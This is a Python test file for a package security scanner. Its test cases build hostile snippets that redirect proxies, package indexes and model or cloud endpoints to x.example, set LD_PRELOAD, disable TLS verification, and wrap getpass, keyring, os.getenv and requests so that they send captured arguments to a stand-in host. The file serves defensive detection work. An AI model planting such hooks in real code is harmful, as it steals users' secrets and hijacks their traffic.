"""What needs no network of its own: it steers the requests of others, or stands where their secrets pass."""

from __future__ import annotations

import pytest

from support.code import findings, held, scan
from veln_hook.model import Severity
from veln_hook.source.analysis import analyse_python
from veln_hook.source.steering import steered_by

_PROXY = "'http://x.example:8080'"
TOLD = {
    "a proxy": f"import os\nos.environ['HTTPS_PROXY'] = {_PROXY}",
    "a proxy in small letters": f"import os\nos.environ['all_proxy'] = {_PROXY}",
    "a proxy by another name": f"from os import environ as e\ne['HTTPS_PROXY'] = {_PROXY}",
    "a proxy by a name that is put together": f"import os\nos.environ['HTTPS' + '_PROXY'] = {_PROXY}",
    "a proxy by update": f"import os\nos.environ.update(https_proxy={_PROXY})",
    "a proxy by a table": f"import os\nos.environ.update({{'HTTPS_PROXY': {_PROXY}}})",
    "a proxy by an operator": f"import os\nos.environ |= {{'HTTPS_PROXY': {_PROXY}}}",
    "a proxy by setdefault": f"import os\nos.environ.setdefault('HTTPS_PROXY', {_PROXY})",
    "a proxy by a special method": f"import os\nos.environ.__setitem__('HTTPS_PROXY', {_PROXY})",
    "a proxy by putenv": f"import os\nos.putenv('HTTPS_PROXY', {_PROXY})",
    "a proxy by a variable": f"import os\nenv = os.environ\nenv['HTTPS_PROXY'] = {_PROXY}",
    "several": f"import os\nfor name in ('HTTP_PROXY', 'HTTPS_PROXY'):\n    os.environ[name] = {_PROXY}",
    "an index": "import os\nos.environ['PIP_INDEX_URL'] = 'https://x.example/simple'",
    "one more index": "import os\nos.environ['UV_EXTRA_INDEX_URL'] = X",
    "whom models are asked": "import os\nos.environ['OPENAI_BASE_URL'] = 'https://x.example/v1'",
    "whom models are asked, by the module": "import openai\nopenai.base_url = 'https://x.example/v1'",
    "whom a cloud is asked": "import os\nos.environ['AWS_ENDPOINT_URL_S3'] = 'https://x.example'",
    "ourselves": "import os\nos.environ['VELN_HOOK'] = 'off'",
}
NEW = {
    "what is preloaded": "import os\nos.environ['LD_PRELOAD'] = os.path.join(os.path.dirname(__file__), 'x.so')",
    "a proxy that nobody tells": "import os, settings\nos.environ['HTTPS_PROXY'] = settings.PROXY",
    "what Python starts with": "import os\nos.environ['PYTHONSTARTUP'] = __file__",
    "what git starts": "import os\nos.environ['GIT_SSH_COMMAND'] = 'ssh -F x'",
    "whom TLS trusts": "import os\nos.environ['REQUESTS_CA_BUNDLE'] = os.path.join(os.path.dirname(__file__), 'c')",
    "that TLS trusts everybody": "import ssl\nssl._create_default_https_context = ssl._create_unverified_context",
}
HONEST = {
    "its own variable": "import os\nos.environ['ACME_LOG'] = 'info'",
    "threads": "import os\nos.environ.setdefault('OMP_NUM_THREADS', '1')",
    "this machine": "import os\nos.environ['HTTP_PROXY'] = 'http://127.0.0.1:3128'",
    "this machine, somewhere": "import os\nos.environ['HTTP_PROXY'] = f'http://localhost:{PORT}'",
    "no proxy": "import os\nos.environ['HTTPS_PROXY'] = ''",
    "for whom there is none": "import os\nos.environ['NO_PROXY'] = 'x.example'",
    "known authorities": "import os, certifi\nos.environ['SSL_CERT_FILE'] = certifi.where()",
    "what is only called": f"import os\ndef use_proxy():\n    os.environ['HTTPS_PROXY'] = {_PROXY}",
    "what is read": "import os\nPROXY = os.environ.get('HTTPS_PROXY')",
    "a process's": f"import os, subprocess\ndef f():\n    subprocess.run(['x'], env=dict(os.environ, HTTPS_PROXY={_PROXY}))",
}
_SEND = "    urllib.request.urlopen('https://x.example/' + str(given))\n    return old(*given)\n"
PASSES = {
    "requests": "requests.Session.send",
    "requests by another way": "requests.sessions.Session.request",
    "HTTP": "http.client.HTTPConnection.putheader",
    "passwords": "getpass.getpass",
    "what is typed": "builtins.input",
    "variables": "os.getenv",
    "variables by the environment's method": "os.environ.get",
    "a keyring": "keyring.get_password",
    "a client of models": "openai.OpenAI.__init__",
    "a cloud's client": "boto3.client",
}


@pytest.mark.parametrize("name", TOLD)
def test_it_is_held(name):
    assert "environment-takeover" in held(scan({"acme/__init__.py": TOLD[name]}))


@pytest.mark.parametrize("name", NEW)
def test_some_is_told_and_held_in_an_upgrade(name):
    files = {"acme/__init__.py": NEW[name]}
    assert [each.severity for each in findings(files) if each.signal == "environment-takeover"] == [
        Severity.MEDIUM
    ]
    assert "environment-takeover" in held(scan(files), scan({"acme/__init__.py": ""}))
    assert "environment-takeover" not in held(scan(files), scan(files))


@pytest.mark.parametrize("name", HONEST)
def test_what_steers_nothing_is_not(name):
    files = {"acme/__init__.py": HONEST[name]}
    assert "environment-takeover" not in held(scan(files), scan({"acme/__init__.py": ""}))


@pytest.mark.parametrize("source", [*TOLD.values(), *NEW.values()])
def test_its_file_is_parsed_for_what_it_is(source):
    assert not analyse_python(source.encode()).light


@pytest.mark.parametrize("way", ["{place} = new\n", "setattr({owner}, '{last}', new)\n"])
@pytest.mark.parametrize("name", PASSES)
def test_what_stands_where_secrets_pass_and_sends_is_held(name, way):
    place = PASSES[name]
    owner, _, last = place.rpartition(".")
    module = "http.client" if place.startswith("http.") else place.partition(".")[0]
    source = f"import {module}, urllib.request\nold = {place}\ndef new(*given):\n{_SEND}" + way.format(
        place=place, owner=owner, last=last
    )
    assert "spying" in held(scan({"acme/__init__.py": source})), source


def test_what_stands_there_and_sends_nothing_is_not():
    source = "import requests\nold = requests.Session.send\ndef new(*given):\n    return old(*given)\nrequests.Session.send = new"
    assert not held(scan({"acme/__init__.py": source}))


@pytest.mark.parametrize(
    "way",
    [
        "requests.Session.close = new", "setattr(requests.Session, 'close', new)", "json.loads = new",
        "wrapt.wrap_function_wrapper('requests', 'Session.send', new)", "forbiddenfruit.curse(str, 'lower', new)",
    ],
)  # fmt: skip
def test_what_takes_the_place_of_any_function_runs(way):
    source = f"import requests, json, wrapt, forbiddenfruit, urllib.request\nold = print\ndef new(*given):\n{_SEND}{way}\n"
    assert "network-at-import" in held(scan({"acme/__init__.py": source}), scan({"acme/__init__.py": ""}))


@pytest.mark.parametrize(
    "name", ["HOME", "PATH", "NO_PROXY", "PIP_NO_INPUT", "PIP_DISABLE_PIP_VERSION_CHECK", ""]
)
def test_most_variables_steer_nothing(name):
    assert not steered_by(name)
